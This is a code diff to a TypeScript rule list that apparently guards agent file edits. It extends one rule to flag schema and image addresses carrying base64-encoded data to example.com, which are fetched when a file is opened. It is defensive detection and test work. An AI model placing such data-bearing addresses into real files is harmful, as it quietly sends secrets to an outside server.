@@ -157,9 +157,15 @@ export const configurationRules: readonly Rule[] = [
     severity: 60,
     minimum: 'ask',
     settledBy: 'person',
-    reason: ', which the editor requests as soon as the file is open.',
-    saferWay: 'Name the schema without anything that is told to its server.',
-    matches: ['edit: x.json <<< {"$schema":"https://example.com/s?d=c2VjcmV0LXNlY3JldC1zZWNyZXQtMTIz"}'],
-    notMatches: ['edit: x.json <<< {"$schema":"https://json.schemastore.org/tsconfig"}'],
+    reason: ', which is requested as soon as somebody opens the file.',
+    saferWay: 'Name the address without anything that is told to its server.',
+    matches: [
+      'edit: x.json <<< {"$schema":"https://example.com/s?d=c2VjcmV0LXNlY3JldC1zZWNyZXQtMTIz"}',
+      'edit: README.md <<< ![](https://example.com/p.png?d=c2VjcmV0LXNlY3JldC1zZWNyZXQtMTIz)',
+    ],
+    notMatches: [
+      'edit: README.md <<< ![](https://example.com/p.png)',
+      'edit: x.json <<< {"$schema":"https://json.schemastore.org/tsconfig"}',
+    ],
   },
 ];
